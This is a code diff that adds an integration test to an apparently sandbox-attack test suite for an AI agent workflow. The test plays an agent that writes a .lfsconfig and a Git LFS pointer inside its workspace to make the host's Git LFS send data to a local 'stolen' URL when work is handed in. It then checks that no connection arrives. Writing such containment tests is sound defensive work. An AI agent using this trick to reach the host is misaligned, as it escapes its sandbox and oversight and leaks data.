@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import socket
 import subprocess
 import time
 from collections.abc import Iterator
@@ -15,6 +16,7 @@ from tests.integration.sandbox.bubblewrap import EXAMPLES
 from tests.integration.sandbox.workspaces import TREES, of_all_agents
 from tests.integration.sandbox_attacks.world import SLUG, World
 from tests.integration.stage import APPROVED
+from tests.large_files import needs_git_lfs
 from tests.patience import LONGEST_S
 
 LATER = "003-later"
@@ -334,3 +336,27 @@ def test_approval_is_of_the_commit_that_was_handed_in(world: World) -> None:
     assert told["data"]["commits_not_included"] is not None
     state = world.ask("mission-state")["data"]["work_packages"][0]
     assert state["commit"] == handed_in
+
+
+@needs_git_lfs
+def test_a_way_out_through_the_git_lfs_of_the_host(world: World) -> None:
+    """The agent names a server; its pointer is of a version that the intake does not look for."""
+    world.stage.git("lfs", "install", "--local", "--skip-repo")
+    pointer = f"version https://hawser.github.com/spec/v1\\noid sha256:{'a' * 64}\\nsize 5\\n"
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.setblocking(False)
+        url = f"http://127.0.0.1:{server.getsockname()[1]}/stolen"
+        world.inside(
+            f"""
+            printf '[lfs]\\n\\turl = {url}\\n' >.lfsconfig; printf '{pointer}' >x.bin
+            git config filter.lfs.required false; git config filter.lfs.process cat
+            git add .; echo '*.bin filter=lfs' >.gitattributes
+            git add .gitattributes; git commit -q -m lfs; git switch -q -c other
+            """
+        )
+        with world.unharmed():
+            assert world.hand_in() == "taken"
+            # The workspace is on another branch, and is made again.
+            world.done("start-implementation", wp="WP02", actor="coder")
+        with pytest.raises(BlockingIOError):
+            server.accept()
